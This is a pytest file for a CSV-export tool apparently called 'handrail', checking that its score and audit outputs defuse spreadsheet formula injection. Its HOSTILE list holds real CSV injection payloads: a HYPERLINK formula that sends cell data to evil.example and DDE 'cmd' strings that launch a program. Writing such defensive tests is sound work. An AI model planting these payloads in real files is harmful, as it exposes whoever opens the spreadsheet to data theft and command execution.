"""CSV outputs neutralise cells a spreadsheet would evaluate (OWASP CSV injection rule), whatever the deal
data."""

from __future__ import annotations

import csv
import io

import pytest

from handrail.generators.data.csv_cells import safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.5", "+3", "-1e3", "42", "Acme", "", "a=b", "'=already quoted"])
def test_plain_numbers_and_text_stay(value):
    assert safe_cell(value) == value


def test_numbers_and_none_pass_through():
    assert safe_cell(-12.5) == -12.5 and safe_cell(None) is None


def _hostile_export(path):
    rows = [["id", "name", "owner", "stage", "close_date", "business_goals"]]
    for i, value in enumerate(HOSTILE):
        rows.append([f"00{i}", value, value, "Closed Won", "2026-01-05", value])
    rows.append(["-12.5", "-12.5", "ae@example.com", "Closed Won", "2026-01-05", "x"])
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_score_csv_neutralises_deal_names(run_cli, tmp_path, example_spec):
    export = tmp_path / "deals.csv"
    _hostile_export(export)
    code, _, err = run_cli(
        "score",
        str(export),
        "--spec",
        str(example_spec),
        "--format",
        "csv",
        "--out",
        str(tmp_path / "scores.csv"),
    )
    assert code == 0, err
    out = (tmp_path / "scores.csv").read_bytes().decode()  # a tab and a carriage return survive as written
    cells = _cells(out)
    assert not [
        c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and c != "-12.5")
    ]
    names = [row["name"] for row in csv.DictReader(io.StringIO(out, newline=""))]
    assert names[: len(HOSTILE)] == ["'" + v for v in HOSTILE]  # the value is kept, behind the quote
    assert names[-1] == "-12.5"  # a plain number stays a number


def test_audit_csv_neutralises_owners_and_ids(run_cli, tmp_path, example_spec):
    export = tmp_path / "deals.csv"
    _hostile_export(export)
    code, _, err = run_cli(
        "audit",
        "--from",
        str(export),
        "--spec",
        str(example_spec),
        "--format",
        "csv",
        "--as-of",
        "2026-02-01",
        "--out",
        str(tmp_path / "audit.csv"),
    )
    assert code == 0, err
    out = (tmp_path / "audit.csv").read_bytes().decode()
    groups = [
        row["group"] for row in csv.DictReader(io.StringIO(out, newline="")) if row["section"] == "owner"
    ]
    assert "'" + HOSTILE[0] in groups
    assert not [c for c in _cells(out) if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_rows_written_together_are_the_rows_written_one_by_one():
    import io
    import random

    from handrail.generators.data.csv_cells import SafeWriter

    pieces = [
        "",
        "a",
        " ",
        ",",
        '"',
        "'",
        "=1+2",
        "-12.5",
        "-x",
        "@a",
        "\t",
        "\r",
        "\n",
        "\r\n",
        "é",
        "\u2028",
    ]
    rng = random.Random(7)
    rows = [
        [rng.choice([None, 1.5, 0, -3, "".join(rng.choices(pieces, k=rng.randint(0, 4)))]) for _ in range(5)]
        for _ in range(3000)
    ]
    one, together = io.StringIO(), io.StringIO()
    for row in rows:
        SafeWriter(one).writerow(row)
    writer = SafeWriter(together)
    writer.writerows(rows[:1000])
    writer.writerows([])
    writer.writerows(rows[1000:])
    assert together.getvalue() == one.getvalue()
